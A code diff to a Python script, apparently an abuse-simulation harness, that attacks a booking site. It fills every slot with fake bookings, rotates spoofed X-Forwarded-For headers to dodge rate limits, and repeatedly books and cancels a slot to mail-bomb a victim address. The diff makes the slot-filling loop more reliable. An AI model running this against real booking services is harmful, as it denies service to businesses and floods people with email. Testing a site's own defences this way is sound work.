@@ -81,6 +81,7 @@ class Attacker:
         self.fake = (f"198.51.{n // 250}.{n % 250 + 1}" for n in itertools.count())
         self.statuses: dict[int, int] = {}
         self.bookings = 0
+        self.last_status = 0
 
     def headers(self) -> dict[str, str]:
         return {"X-Forwarded-For": next(self.fake)} if self.rotate else {}
@@ -93,6 +94,7 @@ class Attacker:
         answer = self.session.post(f"{self.url}/api/bookings", headers=self.headers(),
                                    json={"service": "portrait", "start": start, "name": "Spam Spam", "email": email})
         self.note(answer.status_code)
+        self.last_status = answer.status_code
         if answer.status_code == 201:
             self.bookings += 1
             return answer.json()["manage_url"].rstrip("/").rsplit("/", 1)[1]
@@ -105,6 +107,7 @@ class Attacker:
         key = re.search(r'name="idempotency_key" value="([^"]+)"', page.text)
         if not csrf:
             self.note(page.status_code)
+            self.last_status = page.status_code
             return None
         utc = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(_epoch(start)))
         answer = self.session.post(f"{self.url}/book/portrait/", allow_redirects=False, headers={
@@ -112,6 +115,7 @@ class Attacker:
             "csrfmiddlewaretoken": csrf.group(1), "idempotency_key": key.group(1) if key else "", "start": utc,
             "date": day, "timezone": "Europe/London", "name": "Spam Spam", "email": email})
         self.note(answer.status_code)
+        self.last_status = answer.status_code
         if answer.status_code == 302 and "/manage/" in answer.headers.get("Location", ""):
             self.bookings += 1
             return answer.headers["Location"].split("/manage/")[1].split("/")[0]
@@ -135,16 +139,19 @@ def attack(url: str, seconds: float, rotate: bool) -> Attacker:
     # The victim's slot is the last one: far enough ahead that the customer may still cancel it.
     victim_slot = starts.pop()
     slots = iter(starts)
+    start, fill_status = None, 0
     deadline = time.monotonic() + seconds
     for n in itertools.count():
         if time.monotonic() >= deadline:
             break
         book = attacker.book_api if n % 4 < 2 else attacker.book_form
-        if n % 2 == 0:  # fill the diary
-            start = next(slots, None)
+        if n % 2 == 0:  # fill the diary: move on to the next slot once this one is taken
+            if start is None or fill_status in (201, 302, 409):
+                start = next(slots, None)
             if start is None:
                 break
             book(start, f"filler{n}@example.com")
+            fill_status = attacker.last_status
         else:  # mail-bomb the victim: book and cancel the same slot again and again
             token = book(victim_slot, VICTIM)
             if token:
